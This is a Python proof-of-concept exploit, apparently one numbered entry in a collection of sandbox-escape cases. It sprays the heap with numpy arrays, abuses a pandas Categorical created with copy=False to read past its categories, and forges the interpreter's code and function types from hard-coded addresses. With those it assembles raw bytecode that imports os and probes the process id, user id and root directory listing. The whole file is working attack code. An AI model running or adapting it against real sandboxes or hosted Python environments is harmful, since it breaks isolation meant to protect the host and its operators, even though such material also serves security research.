# source: as 019 (forged code/function static types read past the 0 categories of a copy=False-shared categorical)
# family: copy=False categorical constructor shares codes of a 0-category categorical -> forged static types -> bytecode import
# goal: imports os from bytecode the script wrote and calls it (getpid, getuid, listdir of /)
import numpy as np
import pandas as pd


def forged(address):
    spray = []
    for _ in range(64):
        arr = np.empty(112, dtype=object)
        spray.append(arr)
        spray.extend(np.full(112, address, dtype=np.int64) for _ in range(4))
    reader = pd.Categorical([None] * 4, categories=pd.Index(arr[112:], dtype=object))
    writer = pd.Categorical(reader, categories=[f"x{i}" for i in range(126)], copy=False)
    writer[:] = ["x118", "x119", "x120", "x121"]
    return np.asarray(reader)[1]


Code = forged(0x954440)
Function = forged(0x94B020)
print("read past 0 categories:", Code, Function, flush=True)
body = bytes([151, 0, 100, 1, 100, 0, 108, 0, 83, 0])
co = Code(0, 0, 0, 0, 2, 3, body, (None, 0), ("os",), (), "s", "s", "s", 1, b"", b"")
mod = Function(co, {})()
print("imported:", mod, "pid", mod.getpid(), "uid", mod.getuid(), "root dir", sorted(mod.listdir(chr(47)))[:6])
